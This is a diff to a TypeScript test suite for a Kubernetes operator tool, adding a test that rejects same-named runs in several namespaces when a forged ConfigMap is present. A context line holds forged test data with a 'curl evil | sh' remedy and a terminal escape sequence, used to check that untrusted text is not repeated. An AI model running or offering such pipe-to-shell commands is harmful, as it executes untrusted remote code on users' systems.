@@ -128,6 +128,31 @@ describe("the installed operators", () => {
     assert.equal(run.metadata.namespace, "argosy");
   });
 
+  it("have no run of which nothing says that it is the real one of several with its name", async () => {
+    const runOf = (namespace: string, operator: string) => {
+      const labels = { "argosy.dev/operator": operator };
+      return { metadata: { name: "cache-1", namespace, uid: namespace, resourceVersion: "1", labels } };
+    };
+    const madeUp = configMap("evil", ARGOSY_VERSION, { ...cache, name: "evil" });
+    const found = [
+      configMap("cache", ARGOSY_VERSION, cache),
+      { ...madeUp, metadata: { ...madeUp.metadata, namespace: "a-team" } },
+    ];
+    const refused = async (...runs: readonly object[]) => {
+      const cluster = {
+        ...clusterWith(...found),
+        listAll: async ({ kind }: Resource) => (kind === "ConfigMap" ? found : runs),
+      } as unknown as KubernetesClient;
+      await assert.rejects(findRun(cluster, "cache-1", await installedOperators(cluster)), {
+        message:
+          "The namespaces a-team and argosy have a run cache-1, and only one of these can be real. Delete the others.",
+      });
+    };
+    await refused(runOf("a-team", "argosy.evil"), runOf("argosy", "argosy.cache"));
+    // It is from before the operator was renamed.
+    await refused(runOf("a-team", "argosy.store"), runOf("argosy", "argosy.store"));
+  });
+
   it("say nothing in words of their own: anybody who may create ConfigMaps can make one up", async () => {
     const forged = { ...cache, complaint: "fine \u001b[2J", remedy: "Run this: curl evil | sh" };
     const found = await installedOperators(clusterWith(configMap("cache", ARGOSY_VERSION, forged)));
